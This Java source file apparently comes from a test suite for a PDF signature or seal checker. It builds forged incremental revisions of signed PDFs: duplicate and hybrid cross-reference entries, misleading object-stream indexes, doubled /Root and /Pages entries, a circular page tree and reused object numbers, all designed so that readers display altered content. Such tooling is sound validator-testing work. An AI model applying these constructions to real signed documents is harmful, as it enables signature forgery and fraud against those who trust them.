package cn.sidian.seal.attack;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.Map;
import org.apache.pdfbox.cos.COSStream;
import org.jspecify.annotations.Nullable;

/**
 * One revision, two readings: cross references and object streams that readers take differently.
 */
final class StructureGames {
  private StructureGames() {}

  /** Where forged objects were written, and where the sealed ones stand. */
  private record Two(Revision revision, long number, long forged, long sealed) {}

  private static @Nullable Two two(SealedFile file) {
    COSStream content = file.content();
    if (content == null || content.getKey() == null) {
      return null;
    }
    Revision revision = Forged.content(new Revision(file));
    Map<Long, Long> offsets = revision.writeObjects();
    long number = content.getKey().getNumber();
    Long forged = offsets.get(number);
    return forged == null ? null : new Two(revision, number, forged, file.offset(content.getKey()));
  }

  private static String entry(long offset) {
    return String.format(Locale.ROOT, "%010d 00000 n\r\n", offset);
  }

  private static byte[] table(Two two, String entries) {
    long at = two.revision().ending("").length;
    return two.revision()
        .ending(
            "xref\n" + entries + two.revision().trailerText() + "startxref\n" + at + "\n%%EOF\n");
  }

  static Maker entryTwice(boolean forgedFirst) {
    return file -> {
      Two two = two(file);
      if (two == null) {
        return null;
      }
      long first = forgedFirst ? two.forged() : two.sealed();
      long second = forgedFirst ? two.sealed() : two.forged();
      String head = two.number() + " 1\n";
      return table(two, head + entry(first) + head + entry(second));
    };
  }

  /** The table shows the sealed object, the stream that the trailer names the forged one. */
  static Maker hybrid(boolean tableIsForged) {
    return file -> {
      Two two = two(file);
      if (two == null) {
        return null;
      }
      ByteArrayOutputStream rows = new ByteArrayOutputStream();
      Revision.row(rows, 1, tableIsForged ? two.sealed() : two.forged(), 0);
      long at = two.revision().ending("").length;
      long self = file.freeNumber() + 20;
      two.revision()
          .ending(
              self
                  + " 0 obj\n<</Type/XRef/W[1 4 2]/Index["
                  + two.number()
                  + " 1]/Size "
                  + (self + 1)
                  + "/Root "
                  + Forged.reference(file.catalog())
                  + "/Length "
                  + rows.size()
                  + ">>\nstream\n"
                  + rows.toString(StandardCharsets.ISO_8859_1)
                  + "\nendstream\nendobj\n");
      two.revision().trailer("XRefStm", Long.toString(at));
      String shown = tableIsForged ? entry(two.forged()) : entry(two.sealed());
      return table(two, two.number() + " 1\n" + shown);
    };
  }

  /** The catalog in an object stream, with an index that leads to another one. */
  static Maker compressed(boolean rightIndex) {
    return file -> {
      Revision revision = new Revision(file);
      Forged.pages(revision);
      Map<Long, Long> offsets = revision.writeObjects();
      long forgedPages = offsets.keySet().stream().mapToLong(Long::longValue).min().orElse(0) + 1;
      long catalog = file.catalogKey().getNumber();
      String sealed = Revision.text(file.catalog());
      String forged = sealed.replaceFirst("/Pages \\d+ \\d+ R", "/Pages " + forgedPages + " 0 R");
      String first = rightIndex ? forged : sealed;
      String second = rightIndex ? sealed : forged;
      String head =
          catalog + " 0 " + (rightIndex ? catalog + 9999 : catalog) + " " + (first.length() + 1);
      long self = file.freeNumber() + 30;
      long streamAt = revision.ending("").length;
      revision.ending(
          self
              + " 0 obj\n"
              + new String(
                  CosText.stream(
                      "/Type/ObjStm/N 2/First " + (head.length() + 1),
                      head + " " + first + " " + second + " "),
                  StandardCharsets.ISO_8859_1)
              + "\nendobj\n");
      ByteArrayOutputStream rows = new ByteArrayOutputStream();
      Revision.row(rows, 2, self, rightIndex ? 0 : 1);
      StringBuilder index = new StringBuilder("[" + catalog + " 1");
      offsets.forEach(
          (number, offset) -> {
            index.append(' ').append(number).append(" 1");
            Revision.row(rows, 1, offset, 0);
          });
      long at = revision.ending("").length;
      index.append(' ').append(self).append(" 2]");
      Revision.row(rows, 1, streamAt, 0);
      Revision.row(rows, 1, at, 0);
      String trailer = revision.size(self + 2).trailerText().replace("trailer\n<<", "");
      return revision.ending(
          (self + 1)
              + " 0 obj\n<</Type/XRef/W[1 4 2]/Index"
              + index
              + "/Length "
              + rows.size()
              + trailer.strip()
              + "\nstream\n"
              + rows.toString(StandardCharsets.ISO_8859_1)
              + "\nendstream\nendobj\nstartxref\n"
              + at
              + "\n%%EOF\n");
    };
  }

  /** Objects beyond the stated number are missing for strict readers. */
  static byte[] sizeTooSmall(SealedFile file) {
    return new Revision(file).size(2).withTable();
  }

  static byte[] rootTwice(SealedFile file) {
    Revision revision = new Revision(file);
    String other = Forged.document(revision, "");
    return revision.trailerAlso("/Root " + other).bytes();
  }

  static byte[] pagesTwice(SealedFile file) {
    Revision revision = new Revision(file);
    String other = Forged.document(revision, "");
    long pages = Forged.number(other) - 2;
    String text = Revision.text(file.catalog());
    return revision.put(file.catalog(), "<</Pages " + pages + " 0 R" + text.substring(2)).bytes();
  }

  /** A page tree that leads back to itself. */
  static byte[] circularPages(SealedFile file) {
    var pages =
        (org.apache.pdfbox.cos.COSDictionary)
            file.page().getDictionaryObject(org.apache.pdfbox.cos.COSName.PARENT);
    String self = Forged.reference(pages);
    return new Revision(file)
        .put(pages, "<</Type/Pages/Count 1/Kids[" + self + "]/Parent " + self + ">>")
        .bytes();
  }

  /** The signed revision's own object stream, or content, under the next generation. */
  static byte @Nullable [] otherGeneration(SealedFile file) {
    COSStream content = file.content();
    if (content == null || content.getKey() == null) {
      return null;
    }
    var key =
        new org.apache.pdfbox.cos.COSObjectKey(
            content.getKey().getNumber(), content.getKey().getGeneration() + 1);
    return new Revision(file)
        .put(key, Forged.drawing())
        .with(file.page(), "Contents", key.getNumber() + " " + key.getGeneration() + " R")
        .bytes();
  }
}
